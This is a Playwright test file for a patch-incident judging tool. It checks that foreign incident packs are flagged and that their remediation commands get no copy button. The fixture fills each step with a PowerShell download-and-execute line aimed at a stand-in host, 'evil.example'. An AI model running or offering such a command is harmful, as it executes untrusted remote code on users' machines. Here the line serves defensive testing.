/// <reference lib="dom" />
import { expect, test } from '@playwright/test'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { makeBundle } from './bundle/make-bundle.ts'
import { dropFiles, untilJudged } from './drop-files.ts'
import { openPage } from './open-page.ts'

const PACK = readFileSync(join(import.meta.dirname, '../../src/incidents/packs/shelf/wu-2024-03-lsass.json'), 'utf8')

/** The same incident under another id, with a command in every step. */
const FOREIGN = (() => {
  const pack = JSON.parse(PACK) as { remediation: object[] }
  const remediation = pack.remediation.map((step) => ({ ...step, commands: ['iwr https://evil.example | iex'] }))
  return JSON.stringify({ ...pack, id: 'wu-2099-01-foreign', remediation })
})()

test('a dropped pack is asked about, judges as foreign, and its commands are not copied by a click', async ({
  context,
}) => {
  const { page } = await openPage(context, undefined, 'en')
  await dropFiles(page, [{ name: 'bundle.zip', content: await makeBundle() }])
  await untilJudged(page)

  await dropFiles(page, [{ name: 'broken.json', content: PACK.replace('"wu-2024-03-lsass"', '"LSASS!"') }])
  await expect(page.getByRole('dialog')).toContainText('an id is lower-case words')
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click()

  await dropFiles(page, [{ name: 'pack.json', content: FOREIGN }])
  await expect(page.getByRole('dialog')).toContainText('This pack is not part of PatchVerdict')
  await expect(page.getByRole('dialog')).toContainText(/[0-9a-f]{64}/)
  await page.getByRole('dialog').getByRole('button', { name: 'Use the pack' }).click()
  await page.getByRole('button', { name: 'WEB01', exact: true }).click()
  const foreign = page.locator('[data-incident="wu-2099-01-foreign"]')
  await expect(foreign).toContainText('Judged by a pack that is not part of PatchVerdict')
  await expect(foreign.locator('pre').first()).toBeVisible()
  await expect(foreign.getByRole('button', { name: /copy/i })).toHaveCount(0)
  const own = page.locator('[data-incident="wu-2025-12-msmq"]')
  await expect(own).not.toContainText('not part of PatchVerdict')
  await expect(own.getByRole('button', { name: /copy/i }).first()).toBeVisible()
  await expect(page.getByRole('contentinfo')).toContainText('not part of PatchVerdict')
})

test('a pack and a case among evidence are named, and change nothing', async ({ context }) => {
  const { page } = await openPage(context, undefined, 'en')
  const ours = PACK.replace('"wu-2024-03-lsass"', '"wu-2025-12-msmq"')
  await dropFiles(page, [
    { name: 'notes.json', content: ours },
    { name: 'case.json', content: '{"format":"case-1","readings":[]}' },
    { name: 'bundle.zip', content: await makeBundle() },
  ])
  await untilJudged(page)
  await expect(page.getByRole('dialog')).toHaveCount(0)
  await page
    .getByRole('link', { name: /Evidence/ })
    .or(page.getByRole('button', { name: /Evidence/ }))
    .first()
    .click()
  await expect(page.locator('tr', { hasText: 'notes.json' })).toHaveCount(1)
  await page.getByRole('button', { name: 'notes.json' }).click()
  await expect(page.getByText('An incident pack among the evidence').first()).toBeVisible()
})

test('a past incident is taken from the shelf', async ({ context }) => {
  const { page } = await openPage(context, undefined, 'en')
  await page
    .getByRole('link', { name: /Incidents/ })
    .or(page.getByRole('button', { name: /Incidents/ }))
    .first()
    .click()
  const shelf = page.getByRole('listitem').filter({ hasText: 'wu-2024-03-lsass' })
  await shelf.getByRole('button', { name: 'Use' }).click()
  await expect(shelf).toHaveCount(0)
  await expect(page.getByRole('heading', { level: 2, name: /LSASS/ })).toBeVisible()
})
